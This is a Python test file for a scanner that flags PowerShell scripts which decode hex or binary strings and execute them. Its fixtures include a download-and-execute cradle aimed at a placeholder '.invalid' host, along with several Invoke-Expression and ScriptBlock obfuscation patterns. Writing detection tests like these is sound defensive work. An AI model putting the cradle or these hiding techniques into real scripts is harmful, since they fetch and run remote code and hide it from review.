"""Bytes written as hex (or binary) digits and read back by PowerShell (``[Convert]::FromHexString``,
or ``[Convert]::ToByte($s.Substring(…), 16)`` piece by piece into a byte array), turned into text by
an encoding's ``GetString`` and run (``Invoke-Expression``, ``& ([scriptblock]::Create(…))``):
OBFUSCATED_PAYLOAD, and what the text does when it is in sight. Digits read as numbers and never run
stay quiet. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('https://pull.tessellate.invalid/k.ps1')"


def test_a_utf16_hex_blob_decoded_whole_runs_the_download_it_spells(tmp_path: Path) -> None:
    script = (
        f"$calibration = '{_CRADLE.encode('utf-16-le').hex().upper()}'\n"
        "$plain = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromHexString($calibration))\n"
        "Invoke-Expression $plain\n"
    )
    errors = scan_errors(tmp_path, {"scripts/Sync-Plotter.ps1": script})
    assert ("OBFUSCATED_PAYLOAD", "scripts/Sync-Plotter.ps1", 3) in errors
    assert ("DOWNLOAD_AND_RUN", "scripts/Sync-Plotter.ps1", 3) in errors


def test_hex_pairs_read_into_a_byte_array_in_a_function_then_run(tmp_path: Path) -> None:
    script = (
        "function Expand-Table([string] $packed) {\n"
        "    $buf = New-Object byte[] ($packed.Length / 2)\n"
        "    foreach ($k in 0..($buf.Length - 1)) { $buf[$k] = [Convert]::ToByte($packed.Substring(2 * $k, 2), 16) }\n"
        "    $sb = [ScriptBlock]::Create([Text.Encoding]::UTF8.GetString($buf))\n"
        "    $sb.Invoke()\n"
        "}\n"
        f"Expand-Table '{_CRADLE.encode().hex()}'\n"
    )
    errors = scan_errors(tmp_path, {"tools/loom.ps1": script})
    assert ("OBFUSCATED_PAYLOAD", "tools/loom.ps1", 5) in errors


def test_binary_digits_read_as_bytes_then_run(tmp_path: Path) -> None:
    script = (
        "param([string[]] $Octets)\n"
        "$b = [byte[]]($Octets | ForEach-Object { [Convert]::ToByte($_, 2) })\n"
        "& ([scriptblock]::Create([Text.Encoding]::ASCII.GetString($b)))\n"
    )
    errors = scan_errors(tmp_path, {"scripts/bits.ps1": script})
    assert ("OBFUSCATED_PAYLOAD", "scripts/bits.ps1", 3) in errors


def test_hex_digits_read_as_numbers_and_printed_stay_quiet(tmp_path: Path) -> None:
    script = (
        "$mac = 'a4:5e:60:c2:11:0f'\n"
        "$octets = $mac.Split(':') | ForEach-Object { [Convert]::ToByte($_, 16) }\n"
        "$colour = [Convert]::ToInt32('ff8800', 16)\n"
        "$digest = [Convert]::FromHexString('9f86d081884c7d65')\n"
        "Write-Output ($octets -join ','), $colour, [BitConverter]::ToString($digest)\n"
    )
    assert scan_errors(tmp_path, {"scripts/Show-Ids.ps1": script}) == set()
